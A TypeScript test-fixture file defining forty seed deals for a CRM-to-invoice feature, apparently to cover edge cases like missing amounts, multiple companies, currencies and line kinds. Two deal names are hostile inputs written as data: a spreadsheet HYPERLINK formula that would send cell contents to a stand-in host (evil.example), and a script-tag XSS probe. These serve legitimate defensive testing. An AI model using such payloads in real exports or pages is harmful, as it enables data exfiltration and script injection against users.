import type { LineKind } from './seed-lines.ts';

/** What one of every forty deals is like. Whatever is missing is ordinary. */
export interface DealSlot {
  readonly stage: 'won' | 'lost' | 'proposal' | 'negotiation';
  readonly pipeline?: 0 | 1 | 2;
  readonly name?: string;
  readonly currency?: string;
  /** No currency code at all: the account's currency counts. */
  readonly noCurrency?: true;
  readonly lines?: readonly LineKind[];
  readonly amount?: 'missing' | 'differs';
  readonly company?: 'none' | 'two_with_primary' | 'two_without_primary' | number;
  readonly owner?: 'archived' | 'none';
  readonly closes?: 'before_midnight' | 'after_midnight';
  readonly invoice?: 'whole' | 'no_party' | 'no_due_date';
  readonly reversePositions?: true;
}

const FORTY_LINES: readonly LineKind[] = Array.from({ length: 40 }, (_, at) =>
  at % 9 === 4 ? 'percent' : 'plain',
);

/**
 * Forty deals: each hard case at least once, and most deals healthy. Won and not invoiceable by default are only
 * four: no amount at all, no company, two companies without a primary one, and lines that are all zero.
 */
export const DEAL_SLOTS: readonly DealSlot[] = [
  { stage: 'won', invoice: 'whole' },
  { stage: 'won', noCurrency: true, invoice: 'no_party' },
  { stage: 'won', name: 'اشتراك منصة التحليلات السنوي', company: 4, invoice: 'no_due_date' },
  { stage: 'won', name: '東京支社 年間保守契約', company: 5 },
  { stage: 'won', name: '🚀 Rollout – phase 2 👩🏽‍🚀', company: 6 },
  { stage: 'won', name: '=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")', company: 7 },
  { stage: 'won', name: '<script>alert("deal")</script> & <b>bold</b>', company: 8 },
  { stage: 'won', closes: 'after_midnight' },
  { stage: 'won', lines: ['percent', 'percent', 'plain'] },
  { stage: 'won', lines: ['fixed', 'plain'] },
  { stage: 'won', lines: ['recurring', 'plain'] },
  { stage: 'won', amount: 'missing', lines: ['plain', 'plain'] },
  { stage: 'won', amount: 'missing', lines: [] },
  { stage: 'won', company: 'none' },
  { stage: 'won', company: 'two_with_primary' },
  { stage: 'won', company: 'two_without_primary' },
  { stage: 'won', lines: FORTY_LINES, reversePositions: true },
  { stage: 'won', lines: ['volume', 'plain'] },
  { stage: 'won', lines: ['graduated', 'stairstep'] },
  { stage: 'won', lines: ['plain', 'zero', 'plain'] },
  { stage: 'won', lines: ['zero', 'zero'] },
  { stage: 'won', lines: ['plain', 'plain', 'negative'] },
  { stage: 'won', amount: 'differs' },
  { stage: 'won', lines: ['no_product', 'plain'] },
  { stage: 'won', lines: ['no_sku', 'plain'] },
  { stage: 'won', owner: 'archived' },
  { stage: 'won', lines: [] },
  { stage: 'won', currency: 'JPY', lines: ['plain', 'percent'] },
  { stage: 'won', currency: 'KWD', lines: ['plain', 'percent', 'fixed'] },
  { stage: 'won', currency: 'EUR', pipeline: 1, closes: 'before_midnight' },
  { stage: 'won', currency: 'GBP', pipeline: 2, lines: ['recurring'] },
  { stage: 'won', company: 0 },
  { stage: 'won', company: 1 },
  { stage: 'lost' },
  { stage: 'lost', pipeline: 1, owner: 'none' },
  { stage: 'proposal' },
  { stage: 'negotiation', currency: 'EUR' },
  { stage: 'proposal', pipeline: 2 },
  { stage: 'lost', company: 2 },
  { stage: 'negotiation', company: 3, lines: ['plain'] },
];

export const ORDINARY_LINES: readonly (readonly LineKind[])[] = [
  ['plain'],
  ['plain', 'plain'],
  ['plain', 'plain', 'plain'],
  ['plain', 'percent'],
  ['plain', 'plain', 'plain', 'plain'],
];

/** The benchmark's deal: won, three plain lines, parents of its own. */
export const BENCH_SLOT: DealSlot = { stage: 'won', lines: ['plain', 'plain', 'plain'] };
